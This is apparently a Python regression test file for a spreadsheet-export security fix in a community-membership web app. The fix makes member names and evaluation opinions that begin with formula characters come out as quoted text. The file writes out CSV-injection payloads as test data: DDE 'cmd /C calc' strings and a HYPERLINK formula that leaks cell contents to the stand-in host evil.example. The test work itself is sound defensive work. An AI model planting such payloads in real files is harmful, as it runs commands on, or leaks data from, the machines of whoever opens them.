"""Finding 15 — exports ran formulas. A member named `=HYPERLINK(…)` or `=cmd|' /C calc'!A0` (or an
evaluation opinion starting with `@`, `+`, `-`, a tab or a carriage return) came out of the members
xlsx / csv and the evaluation export as a live formula, run by whoever opened the file.

The safe answer: every text cell that starts with one of those characters is written with a leading
single quote (OWASP's CSV-injection advice), and every xlsx text cell is a string cell, never a
formula; numbers (negative ones too) stay numbers.
"""

from __future__ import annotations

import csv
import io

import httpx
from openpyxl import load_workbook

from factories import headers_for, make_member, make_org
from factories.evaluation import make_scene
from gongjian.kit.spreadsheet import Sheet, csv_bytes, xlsx
from gongjian.models.enums import OrganizationKind, Role

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
]


def _cells(content: bytes) -> list[list[object]]:
    """Every cell of the first sheet: its value and, for a string, its data type."""
    ws = load_workbook(io.BytesIO(content)).active
    assert ws is not None
    return [[(c.value, c.data_type) for c in row] for row in ws.iter_rows()]


def test_members_xlsx_and_csv_write_hostile_names_as_quoted_text(http: httpx.Client) -> None:
    community = make_org(OrganizationKind.community)
    ids = {name: make_member(community, name=name) for name in HOSTILE}
    admin = headers_for(http, Role.admin)

    xlsx = http.get("members/export", params={"community_org_id": community, "format": "xlsx"}, headers=admin)
    assert xlsx.status_code == 200, xlsx.text
    rows = _cells(xlsx.content)
    header = [value for value, _ in rows[0]]
    by_id = {row[header.index("系统编号")][0]: row for row in rows[1:]}
    for name, member_id in ids.items():
        value, data_type = by_id[member_id][header.index("姓名")]
        assert (value, data_type) == ("'" + name, "s"), (name, value, data_type)
        # The id stays a number cell.
        assert by_id[member_id][header.index("系统编号")][1] == "n"
    assert not any(data_type == "f" for row in rows for _, data_type in row)

    exported = http.get("members/export", params={"community_org_id": community, "format": "csv"}, headers=admin)
    assert exported.status_code == 200, exported.text
    table = list(csv.reader(io.StringIO(exported.content.decode("utf-8-sig"), newline="")))
    names = {int(line[0]): line[table[0].index("姓名")] for line in table[1:]}
    assert names == {member_id: "'" + name for name, member_id in ids.items()}
    assert not any(cell[:1] in {"=", "+", "-", "@", "\t", "\r"} for line in table for cell in line)


def test_evaluation_export_writes_hostile_names_and_opinions_as_text(http: httpx.Client) -> None:
    scene = make_scene(http)  # type: ignore[arg-type]
    scene.create_period()
    member = make_member(scene.community, unit_org_id=scene.unit, name="=cmd|' /C calc'!A0", reported_on="2017-03-01")
    scene.open()
    scene.score(member, 95, 90, opinion='@HYPERLINK("http://evil.example","x")')

    export = http.get(
        f"evaluation-periods/{scene.period}/export", params={"unit_org_id": scene.unit}, headers=scene.unit_admin
    )
    assert export.status_code == 200, export.text
    rows = _cells(export.content)
    header = [value for value, _ in rows[2]]
    line = dict(zip(header, rows[3], strict=True))
    assert line["姓名"] == ("'=cmd|' /C calc'!A0", "s")
    assert line["社区意见"] == ('\'@HYPERLINK("http://evil.example","x")', "s")
    assert line["名次"] == (1, "n") and line["最终得分"][1] == "n"
    assert not any(data_type == "f" for row in rows for _, data_type in row)


def test_the_writer_quotes_tab_and_carriage_return_and_keeps_numbers() -> None:
    """Request bodies are trimmed, so a leading tab or CR can't arrive over HTTP; the writer every
    export goes through still neutralises them (an import or a migration could store one)."""
    line = ["\t=1+1", "\r=1+1", "-5", -5, 2.5, None, "普通文字"]
    table = list(csv.reader(io.StringIO(csv_bytes(["a"] * 7, [line]).decode("utf-8-sig"), newline="")))
    assert table[1] == ["'\t=1+1", "'\r=1+1", "'-5", "-5", "2.5", "", "普通文字"]
    sheet = Sheet("s")
    sheet.rows([line])
    assert _cells(xlsx([sheet]))[0] == [
        ("'\t=1+1", "s"),
        ("'\r=1+1", "s"),  # lxml writes the CR as a character reference, so it reads back as CR
        ("'-5", "s"),
        (-5, "n"),
        (2.5, "n"),
        (None, "n"),
        ("普通文字", "s"),
    ]
